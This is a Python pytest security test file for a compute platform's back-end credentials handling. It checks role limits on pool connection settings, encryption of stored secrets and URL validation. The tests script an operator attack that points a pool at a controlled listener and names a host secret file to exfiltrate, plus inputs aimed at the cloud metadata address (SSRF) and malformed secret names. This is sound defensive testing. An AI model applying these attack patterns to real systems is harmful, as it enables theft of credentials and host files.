"""Back-end credentials (issue #11): an operator reaches nothing, nobody below admin sees where the platform
connects, secrets are encrypted at rest, connection URLs are validated.

The attack: an operator PATCHes its pool's ``rest_url`` to a TCP server it controls (here: one the test
starts on loopback) and ``token_file`` to a host file holding a secret; the platform used to send that file
in a header on every health ping. Now the PATCH is refused and the real health check of the stored network
never sends the file's contents anywhere."""

from __future__ import annotations

import contextlib
import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from cryptography.fernet import Fernet
from fastapi.testclient import TestClient
from sqlalchemy import create_engine, text
from sqlalchemy.orm import Session

from huanghe.api.app import create_app
from huanghe.core.clock import WallClock
from huanghe.jobs.backend_cache import BackendCache
from huanghe.jobs.center_health import check_health
from huanghe.jobs.dispatch_context import DispatchContext, TickReport
from huanghe.jobs.settings import DispatchSettings
from huanghe.network import secrets
from tests.infra.slurm import SlurmCluster
from tests.security_support import World, secure_settings, world

API = "/api/v1"
BELOW_ADMIN = ("anon", "tenant_user", "tenant_admin", "operator", "regulator")
READ_PATHS = (
    "/pools/qd-ai-910b",
    "/pools",
    "/centers/qd-ai",
    "/centers",
    "/topology",
    "/topology?format=yaml",
)


class Listener:
    """A TCP server on loopback that records every byte it receives and answers ``200 {}``."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port: int = self.sock.getsockname()[1]
        self.received = bytearray()
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        self.sock.settimeout(0.2)
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    self.received += conn.recv(65536)
                    conn.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
                    )

    def close(self) -> None:
        self._stop = True
        self._thread.join(timeout=2)
        self.sock.close()


@pytest.fixture
def w(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    monkeypatch.setenv(secrets.KEY_ENV, Fernet.generate_key().decode())
    monkeypatch.delenv("HUANGHE_BACKEND_ALLOW_LOOPBACK", raising=False)
    monkeypatch.delenv("HUANGHE_CREDENTIALS_DIR", raising=False)
    monkeypatch.setenv("HUANGHE_DATA_DIR", str(tmp_path / "data"))
    with world(f"sqlite:///{tmp_path / 'c.db'}") as wd:
        yield wd


@pytest.fixture
def listener() -> Iterator[Listener]:
    srv = Listener()
    yield srv
    srv.close()


@contextlib.contextmanager
def w_session(db: Path) -> Iterator[Session]:
    """A session on the SQLite file ``db`` (read what the server stored, as it is on disk)."""
    engine = create_engine(f"sqlite:///{db}")
    try:
        with Session(engine) as s:
            yield s
    finally:
        engine.dispose()


def _ping_every_pool(w: World) -> None:
    """What the dispatcher does every health interval: build each pool's back-end from the stored network
    (secrets resolved) and ping it."""
    ctx = DispatchContext(w.app.state.session_factory, DispatchSettings(), BackendCache(), WallClock())
    with w.session() as s:
        ctx.topology(s, ctx.clock.now_s())
    try:
        check_health(ctx, TickReport())
    finally:
        ctx.backends.close()


def test_operator_cannot_exfiltrate_a_host_file(w: World, listener: Listener, tmp_path: Path) -> None:
    secret_file = tmp_path / "host-secret"
    secret_file.write_text("SLURM_JWT=host-secret-" + "q" * 32)
    evil = {"rest_url": f"http://127.0.0.1:{listener.port}", "user": "root", "token_file": str(secret_file)}
    attempts = [
        ("PATCH", f"{API}/pools/qd-ai-910b", {"backend": "slurm", "backend_settings": evil}, "backend"),
        ("PATCH", f"{API}/pools/qd-ai-910b", {"backend_settings": evil}, "backend_settings"),
        ("PATCH", f"{API}/pools/qd-ai-910b", {"backend_settings": {}}, "backend_settings"),
        ("PATCH", f"{API}/pools/qd-ai-910b", {"backend": "slurm"}, "backend"),
    ]
    with w.session() as s:
        pool = s.execute(text("SELECT backend, backend_settings FROM pools WHERE id = 'qd-ai-910b'")).one()
    new_pool = w.client.get(f"{API}/pools/qd-ai-910b", headers=w.h("admin")).json()
    new_pool = {**new_pool, "id": "qd-ai-evil", "backend": "slurm", "backend_settings": evil}
    attempts.append(("POST", f"{API}/pools", new_pool, "backend"))
    for method, url, body, field in attempts:
        r = w.client.request(method, url, json=body, headers=w.h("operator"))
        assert r.status_code == 403, (body, r.text)
        assert r.json()["detail"][0]["message"].startswith(f"{field}:"), r.text
        assert str(secret_file) not in r.text and str(listener.port) not in r.text
    with w.session() as s:
        assert (
            s.execute(text("SELECT backend, backend_settings FROM pools WHERE id = 'qd-ai-910b'")).one()
            == pool
        )
        assert s.execute(text("SELECT count(*) FROM pools WHERE id = 'qd-ai-evil'")).scalar() == 0
    # even an admin may not point a pool at loopback or at a host file through the API
    r = w.client.patch(f"{API}/pools/qd-ai-910b", json={"backend": "slurm", "backend_settings": evil},
                       headers=w.h("admin"))  # fmt: skip
    assert r.status_code == 422
    paths = {d["path"] for d in r.json()["detail"]}
    assert {"body.backend_settings.rest_url", "body.backend_settings.token_file"} <= paths
    assert "host-secret-" not in r.text
    _ping_every_pool(w)
    assert b"host-secret-" not in listener.received


def test_operator_still_edits_capacity_price_and_state(w: World) -> None:
    r = w.client.patch(f"{API}/pools/qd-ai-910b", json={"nodes": 7, "price_cny_per_hour": 12.5},
                       headers=w.h("operator"))  # fmt: skip
    assert r.status_code == 200, r.text
    assert r.json()["nodes"] == 7 and r.json()["backend"] == "ray" and r.json()["backend_settings"] == {}
    plain = dict(w.client.get(f"{API}/pools/qd-ai-910b", headers=w.h("admin")).json())
    plain.update(id="qd-ai-new", name="new")
    plain.pop("backend_settings")
    plain.pop("backend")
    assert w.client.post(f"{API}/pools", json=plain, headers=w.h("operator")).status_code == 201


def test_settings_hidden_below_admin_and_credentials_masked_for_admin(w: World) -> None:
    w.client.put(f"{API}/secrets/ray-qd", json={"value": "ray-token-value"}, headers=w.h("admin"))
    with w.session() as s:  # a legacy literal token, stored before issue #11 (not writable through the API)
        s.execute(text("UPDATE pools SET backend_settings = :v WHERE id = 'qd-ai-910b'"),
                  {"v": '{"address": "http://10.9.8.7:8265", "auth_token": "literal-tok", "auth_token_secret": "ray-qd"}'})  # fmt: skip
        s.commit()
    for who in BELOW_ADMIN:
        for path in READ_PATHS:
            r = w.client.get(f"{API}{path}", headers=w.h(who))
            assert r.status_code == 200, (who, path)
            for leak in ("10.9.8.7", "literal-tok", "ray-qd", "ray-token-value", "auth_token"):
                assert leak not in r.text, (who, path, leak)
            if path == "/pools/qd-ai-910b":
                assert r.json()["backend"] == "ray" and r.json()["backend_settings"] == {}
    admin = w.client.get(f"{API}/pools/qd-ai-910b", headers=w.h("admin")).json()["backend_settings"]
    assert admin == {"address": "http://10.9.8.7:8265", "auth_token": "***", "auth_token_secret": "ray-qd"}
    yaml_text = w.client.get(f"{API}/topology?format=yaml", headers=w.h("admin")).text
    assert "10.9.8.7" in yaml_text and "literal-tok" not in yaml_text and "ray-token-value" not in yaml_text


def test_secret_round_trip_is_encrypted_at_rest(w: World) -> None:
    value = "jwt-" + "x" * 48
    r = w.client.put(
        f"{API}/secrets/slurm-jn", json={"value": value, "description": "jinan"}, headers=w.h("admin")
    )
    assert r.status_code == 200 and value not in r.text and r.json()["used_by"] == []
    for who in BELOW_ADMIN:
        assert w.client.get(f"{API}/secrets", headers=w.h(who)).status_code in (401, 403)
        put = w.client.put(f"{API}/secrets/slurm-jn", json={"value": "mine"}, headers=w.h(who))
        assert put.status_code in (401, 403)
    with w.session() as s:
        raw = s.execute(text("SELECT ciphertext FROM backend_secrets WHERE name = 'slurm-jn'")).scalar_one()
        assert value not in raw and "x" * 16 not in raw
        dump = "\n".join(str(row) for row in s.execute(text("SELECT * FROM backend_secrets")))
        assert value not in dump
    body = {
        "backend_settings": {
            "rest_url": "https://slurm.example.org:6820",
            "user": "hh",
            "token_secret": "slurm-jn",
        }
    }
    assert w.client.patch(f"{API}/pools/jn-sc-dcu", json=body, headers=w.h("admin")).status_code == 200
    with w.session() as s:
        resolved = secrets.resolve_settings(s, body["backend_settings"])
    assert resolved == {"rest_url": "https://slurm.example.org:6820", "user": "hh", "token": value}
    listed = w.client.get(f"{API}/secrets", headers=w.h("admin"))
    assert listed.json()["items"][0]["used_by"] == ["jn-sc-dcu"] and value not in listed.text
    assert (
        w.client.put(f"{API}/secrets/slurm-jn", json={"value": "rotated"}, headers=w.h("admin")).status_code
        == 200
    )
    with w.session() as s:
        assert secrets.resolve_settings(s, {"token_secret": "slurm-jn"}) == {"token": "rotated"}
    refused = w.client.delete(f"{API}/secrets/slurm-jn", headers=w.h("admin"))
    assert refused.status_code == 409 and "jn-sc-dcu" in refused.text
    unknown = {"backend_settings": {"token_secret": "nope"}}
    r = w.client.patch(f"{API}/pools/jn-sc-dcu", json=unknown, headers=w.h("admin"))
    assert r.status_code == 422 and r.json()["detail"][0]["path"] == "body.backend_settings.token_secret"
    assert (
        w.client.patch(
            f"{API}/pools/jn-sc-dcu", json={"backend_settings": {}}, headers=w.h("admin")
        ).status_code
        == 200
    )
    assert w.client.delete(f"{API}/secrets/slurm-jn", headers=w.h("admin")).status_code == 204
    assert w.client.get(f"{API}/secrets/slurm-jn", headers=w.h("admin")).status_code == 404


def test_secret_reaches_the_back_end_only_where_the_admin_allowed(
    w: World, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """End to end: an admin allows loopback, stores a token as a secret and names it; the health ping sends
    the decrypted token to the configured slurmrestd (and nowhere else)."""
    monkeypatch.setenv("HUANGHE_BACKEND_ALLOW_LOOPBACK", "1")
    w.client.put(f"{API}/secrets/jwt", json={"value": "decrypted-jwt-" + "k" * 20}, headers=w.h("admin"))
    body = {"backend_settings": {"rest_url": f"http://127.0.0.1:{listener.port}", "user": "hh",
                                 "token_secret": "jwt", "cli": "never", "health_timeout_s": "2"}}  # fmt: skip
    assert w.client.patch(f"{API}/pools/jn-sc-dcu", json=body, headers=w.h("admin")).status_code == 200
    _ping_every_pool(w)
    assert (
        b"X-SLURM-USER-TOKEN: decrypted-jwt-" in listener.received
        or b"x-slurm-user-token: decrypted-jwt-" in listener.received
    )
    health = w.client.get(f"{API}/health/centers", headers=w.h("tenant_user"))
    assert (
        health.status_code == 200
        and str(listener.port) not in health.text
        and "decrypted-jwt" not in health.text
    )


def test_topology_import_checks_every_pool(w: World) -> None:
    doc = w.client.get(f"{API}/topology", headers=w.h("admin")).json()
    doc["centers"][1]["pools"][0]["backend_settings"] = {"address": "http://169.254.169.254"}
    r = w.client.put(f"{API}/topology", json=doc, headers=w.h("admin"))
    assert r.status_code == 422, r.text
    assert r.json()["detail"][0]["path"] == "body.centers[1].pools[0].backend_settings.address"


def test_server_refuses_to_start_without_the_key_when_secrets_exist(
    w: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert w.client.put(f"{API}/secrets/s1", json={"value": "v"}, headers=w.h("admin")).status_code == 200
    monkeypatch.delenv(secrets.KEY_ENV)
    with (
        pytest.raises(secrets.SecretKeyError, match=secrets.KEY_ENV),
        TestClient(create_app(secure_settings(w.url))),
    ):
        pass
    monkeypatch.setenv(
        secrets.KEY_ENV, Fernet.generate_key().decode()
    )  # not the key the secret was stored with
    with (
        pytest.raises(secrets.SecretKeyError, match="cannot be decrypted"),
        TestClient(create_app(secure_settings(w.url))),
    ):
        pass
    # without a key, storing a secret answers 400 naming the variable (never 500)
    monkeypatch.delenv(secrets.KEY_ENV)
    r = w.client.put(f"{API}/secrets/s2", json={"value": "v"}, headers=w.h("admin"))
    assert r.status_code == 400 and secrets.KEY_ENV in r.text
    # a dev key file left in the data directory does not stand in for the variable in production
    secrets.fernet(dev_mode=True)
    assert secrets.dev_key_path().is_file()
    r = w.client.put(f"{API}/secrets/s2", json={"value": "v"}, headers=w.h("admin"))
    assert r.status_code == 400 and secrets.KEY_ENV in r.text


def test_dev_mode_generates_a_key_in_the_data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(secrets.KEY_ENV, raising=False)
    monkeypatch.setenv("HUANGHE_DATA_DIR", str(tmp_path / "data"))
    key = secrets.fernet(dev_mode=True)
    path = tmp_path / "data" / secrets.DEV_KEY_FILE
    assert path.is_file() and (path.stat().st_mode & 0o777) == 0o600
    assert secrets.fernet().decrypt(key.encrypt(b"x")) == b"x"  # the same key is read back


def test_a_real_slurm_pool_authenticates_with_a_secret(
    w: World, slurm_cluster: SlurmCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The new way end to end on a real slurmrestd: the JWT stored as a secret, the pool naming it."""
    monkeypatch.setenv("HUANGHE_BACKEND_ALLOW_LOOPBACK", "1")  # the test cluster listens on loopback
    settings = slurm_cluster.rest_settings()
    jwt = settings.pop("token")
    assert (
        w.client.put(f"{API}/secrets/slurm-jwt", json={"value": jwt}, headers=w.h("admin")).status_code == 200
    )
    body = {"backend_settings": {**settings, "token_secret": "slurm-jwt", "cli": "never"}}
    r = w.client.patch(f"{API}/pools/jn-sc-dcu", json=body, headers=w.h("admin"))
    assert r.status_code == 200, r.text
    assert jwt not in r.text and r.json()["backend_settings"]["token_secret"] == "slurm-jwt"
    ctx = DispatchContext(w.app.state.session_factory, DispatchSettings(), BackendCache(), WallClock())
    with w.session() as s:
        ctx.topology(s, ctx.clock.now_s())
    backend = ctx.backend_for_pool("jn-sc-dcu")
    assert backend is not None
    try:
        health = backend.health()
        assert health.ok, health.message
    finally:
        ctx.backends.close()


def test_bad_secret_input_is_4xx_naming_the_field_without_echoing_it(w: World) -> None:
    long = "L" * 20_000
    r = w.client.put(f"{API}/secrets/big", json={"value": long}, headers=w.h("admin"))
    assert r.status_code == 422 and r.json()["detail"][0]["path"] == "body.value" and long not in r.text
    r = w.client.put(f"{API}/secrets/empty", json={"value": ""}, headers=w.h("admin"))
    assert r.status_code == 422 and r.json()["detail"][0]["path"] == "body.value"
    for name in ("Bad_Name", "a" * 65, "x%00y"):
        r = w.client.put(f"{API}/secrets/{name}", json={"value": "v"}, headers=w.h("admin"))
        assert r.status_code == 422, name
    assert w.client.delete(f"{API}/secrets/nope", headers=w.h("admin")).status_code == 404


def test_client_manages_secrets_on_a_dev_mode_server(tmp_path: Path) -> None:
    """``huanghe up`` in dev mode (as ``make run``): the first secret generates the key in the data dir; the
    client stores, lists and deletes secrets and never receives a value."""
    from huanghe.client import HuangheClient
    from tests import jobs_server as srv

    server = srv.start(tmp_path, f"sqlite:///{tmp_path / 'dev.db'}", network="shandong-mini")
    try:
        with HuangheClient(server.url, timeout_s=30) as hh:
            stored = hh.put_secret("slurm-jn", "dev-value-" + "d" * 20, "jinan slurm")
            assert stored.name == "slurm-jn" and "dev-value" not in stored.model_dump_json()
            assert [s.name for s in hh.secrets()] == ["slurm-jn"]
            hh.delete_secret("slurm-jn")
            assert hh.secrets() == []
        value_file = tmp_path / "jwt.txt"
        value_file.write_text("cli-value-" + "c" * 20 + "\n")
        env = srv.env(tmp_path, HUANGHE_URL=server.url)
        put = subprocess.run(srv.cli("secrets", "put", "from-cli", "--from-file", str(value_file)),
                             env=env, capture_output=True, text=True, timeout=60)  # fmt: skip
        assert put.returncode == 0 and "cli-value" not in put.stdout + put.stderr, put.stderr
        key = subprocess.run(
            srv.cli("secrets", "keygen"), env=env, capture_output=True, text=True, timeout=60
        )
        Fernet(key.stdout.strip())  # a valid key
        listed = subprocess.run(srv.cli("secrets", "list", "--json"), env=env, capture_output=True, text=True,
                                timeout=60)  # fmt: skip
        assert json.loads(listed.stdout)[0]["name"] == "from-cli" and "cli-value" not in listed.stdout
        with HuangheClient(server.url, timeout_s=30) as hh, w_session(tmp_path / "dev.db") as s:
            raw = s.execute(text("SELECT ciphertext FROM backend_secrets")).scalar_one()
            assert "cli-value" not in raw
            hh.delete_secret("from-cli")
        key_file = tmp_path / "data" / secrets.DEV_KEY_FILE
        assert key_file.is_file() and (key_file.stat().st_mode & 0o777) == 0o600
    finally:
        server.stop()


def test_the_key_rotates_by_prepending_a_new_one(w: World, monkeypatch: pytest.MonkeyPatch) -> None:
    assert (
        w.client.put(f"{API}/secrets/r1", json={"value": "rot-value"}, headers=w.h("admin")).status_code
        == 200
    )
    old_key, new_key = secrets.os.environ[secrets.KEY_ENV], Fernet.generate_key().decode()
    monkeypatch.setenv(secrets.KEY_ENV, f"{new_key},{old_key}")
    with w.session() as s:
        assert secrets.resolve_settings(s, {"token_secret": "r1"}) == {"token": "rot-value"}
    assert (
        w.client.put(f"{API}/secrets/r1", json={"value": "rot-value"}, headers=w.h("admin")).status_code
        == 200
    )
    monkeypatch.setenv(secrets.KEY_ENV, new_key)  # the old key dropped: the re-stored secret still reads
    with w.session() as s:
        assert secrets.resolve_settings(s, {"token_secret": "r1"}) == {"token": "rot-value"}
    monkeypatch.setenv(secrets.KEY_ENV, "not-a-key")
    r = w.client.put(f"{API}/secrets/r2", json={"value": "v"}, headers=w.h("admin"))
    assert r.status_code == 400 and "not a Fernet key" in r.text and "not-a-key" not in r.text


def test_secret_text_that_cannot_be_stored_is_422(w: World) -> None:
    raw_bodies = (
        ('{"value": "a\\u0000b"}', "body.value"),
        ('{"value": "\\ud800"}', "body.value"),  # a lone surrogate: valid JSON, not UTF-8
        ('{"value": "v", "description": "x\\u202ey"}', "body.description"),
    )
    headers = {**w.h("admin"), "content-type": "application/json"}
    for body, field in raw_bodies:
        r = w.client.put(f"{API}/secrets/odd", content=body, headers=headers)
        assert r.status_code == 422 and r.json()["detail"][0]["path"] == field, (body, r.text)
